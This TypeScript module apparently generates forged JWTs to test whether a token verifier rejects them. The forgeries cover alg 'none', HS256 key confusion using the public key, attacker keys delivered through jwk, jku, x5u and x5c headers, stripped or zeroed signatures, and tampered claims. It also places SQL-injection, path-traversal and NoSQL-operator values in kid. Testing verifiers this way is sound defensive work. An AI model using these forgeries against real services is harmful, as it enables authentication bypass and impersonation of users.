/** Tokens that we never signed, made from one that we did; each tries one trick on whoever verifies it. */
import { createHmac, generateKeyPairSync, sign as signBytes } from 'node:crypto';
import type { JWK, JWTPayload } from 'jose';
import { exportSPKI, importJWK } from 'jose';

export interface Forgery {
  name: string;
  token: string;
}

interface Original {
  token: string;
  /** The keys of the provider, as it publishes them. */
  keys: JWK[];
  /** Where the attacker serves a key set and a certificate. */
  attackerUrl: string;
}

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const decode = (part: string | undefined) => JSON.parse(Buffer.from(part ?? '', 'base64url').toString());

/** The key that the attacker signs with, as it would be served. */
const own = generateKeyPairSync('rsa', { modulusLength: 2048 });
const ownCurve = generateKeyPairSync('ec', { namedCurve: 'P-256' });
export const attackerJwk = (kid: string): JWK => ({
  ...own.publicKey.export({ format: 'jwk' }),
  kid,
  alg: 'RS256',
  use: 'sig',
});

function signed(header: Record<string, unknown>, payload: JWTPayload): string {
  const input = `${encode(header)}.${encode(payload)}`;
  return `${input}.${signBytes('sha256', Buffer.from(input), own.privateKey).toString('base64url')}`;
}

function signedByCurve(header: Record<string, unknown>, payload: JWTPayload): string {
  const input = `${encode(header)}.${encode(payload)}`;
  const key = { key: ownCurve.privateKey, dsaEncoding: 'ieee-p1363' as const };
  return `${input}.${signBytes('sha256', Buffer.from(input), key).toString('base64url')}`;
}

function hmac(header: Record<string, unknown>, payload: JWTPayload, secret: string | Buffer): string {
  const input = `${encode(header)}.${encode(payload)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

/** All forgeries of one genuine token. */
export async function forge({ token, keys, attackerUrl }: Original): Promise<Forgery[]> {
  const [headerPart = '', payloadPart = '', signature = ''] = token.split('.');
  const header = decode(headerPart);
  const payload: JWTPayload = decode(payloadPart);
  const key = keys.find(({ kid }) => kid === header.kid) ?? {};
  const imported = await importJWK({ ...key, alg: 'RS256' });
  const pem = imported instanceof Uint8Array ? '' : await exportSPKI(imported);
  const otherKid = keys.find(({ kty }) => kty !== key.kty)?.kid;
  const with_ = (changes: Record<string, unknown>) =>
    `${headerPart}.${encode({ ...payload, ...changes })}.${signature}`;
  const unsigned = (alg: unknown) => `${encode({ ...header, alg })}.${payloadPart}.`;
  const made: Record<string, string> = {
    'alg none': unsigned('none'),
    'alg None': unsigned('None'),
    'alg NONE': unsigned('NONE'),
    'alg none with the old signature': `${encode({ ...header, alg: 'none' })}.${payloadPart}.${signature}`,
    'alg none without a kid': `${encode({ alg: 'none', typ: header.typ })}.${payloadPart}.`,
    'no alg': unsigned(undefined),
    'alg as a list': unsigned(['RS256', 'none']),
    'an empty signature': `${headerPart}.${payloadPart}.`,
    'no signature part': `${headerPart}.${payloadPart}`,
    'two signatures': `${token}.${signature}`,
    'a signature of zeros': `${headerPart}.${payloadPart}.${Buffer.alloc(256).toString('base64url')}`,
    'a curve signature of zeros': `${encode({ ...header, alg: 'ES256', kid: otherKid })}.${payloadPart}.${Buffer.alloc(64).toString('base64url')}`,
    'half a signature': `${headerPart}.${payloadPart}.${signature.slice(0, 100)}`,
    'a signature with a changed end': `${headerPart}.${payloadPart}.${signature.slice(0, -4)}AAAA`,
    'another subject': with_({ sub: 'somebody-else' }),
    'another audience': with_({ aud: 'https://attacker.example.test' }),
    'more scopes': with_({ scope: 'openid profile email phone address offline_access' }),
    'a later end': with_({ exp: 4_102_444_800 }),
    'HS256 with the public key as PEM': hmac({ ...header, alg: 'HS256' }, payload, pem),
    'HS256 with the public key as PEM, trimmed': hmac({ ...header, alg: 'HS256' }, payload, pem.trim()),
    'HS256 with the public key as JWK': hmac({ ...header, alg: 'HS256' }, payload, JSON.stringify(key)),
    'HS256 with the modulus': hmac({ ...header, alg: 'HS256' }, payload, Buffer.from(key.n ?? '', 'base64url')),
    'HS256 with nothing': hmac({ ...header, alg: 'HS256' }, payload, ''),
    'HS256 with the key id': hmac({ ...header, alg: 'HS256' }, payload, String(key.kid)),
    'a key of the attacker under our kid': signed(header, payload),
    'a key of the attacker under its own kid': signed({ ...header, kid: 'attacker' }, payload),
    'a key of the attacker without a kid': signed({ ...header, kid: undefined }, payload),
    'a curve of the attacker under our kid': signedByCurve({ ...header, alg: 'ES256' }, payload),
    'a curve of the attacker under our curve': signedByCurve({ ...header, alg: 'ES256', kid: otherKid }, payload),
    'an embedded key': signed({ ...header, jwk: attackerJwk('attacker') }, payload),
    'an embedded key under our kid': signed({ ...header, kid: key.kid, jwk: attackerJwk(String(key.kid)) }, payload),
    jku: signed({ ...header, kid: 'attacker', jku: `${attackerUrl}/jwks` }, payload),
    'jku under our kid': signed({ ...header, jku: `${attackerUrl}/jwks` }, payload),
    x5u: signed({ ...header, kid: 'attacker', x5u: `${attackerUrl}/certificate` }, payload),
    x5c: signed(
      { ...header, kid: 'attacker', x5c: [own.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')] },
      payload,
    ),
    'kid as a path': signed({ ...header, kid: '../../../../dev/null' }, payload),
    'kid as a query': signed({ ...header, kid: "' OR 1=1 --" }, payload),
    'kid as an object': signed({ ...header, kid: { $ne: null } }, payload),
    'an unknown critical member': signed({ ...header, crit: ['exp'], exp: 1 }, payload),
    'unencoded payload': signed({ ...header, b64: false, crit: ['b64'] }, payload),
    'another algorithm with our key': `${encode({ ...header, alg: 'PS256' })}.${payloadPart}.${signature}`,
    'our curve id for an RSA signature': `${encode({ ...header, kid: otherKid })}.${payloadPart}.${signature}`,
    'an encrypted token': `${encode({ alg: 'dir', enc: 'A128GCM' })}..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA`,
    deflated: signed({ ...header, zip: 'DEF' }, payload),
    'no JSON in the header': `AAAA.${payloadPart}.${signature}`,
    'no JSON in the payload': `${headerPart}.AAAA.${signature}`,
    'a list as payload': `${headerPart}.${encode([])}.${signature}`,
    'only dots': '..',
    text: 'not-a-token',
  };
  return Object.entries(made).map(([name, forged]) => ({ name, token: forged }));
}
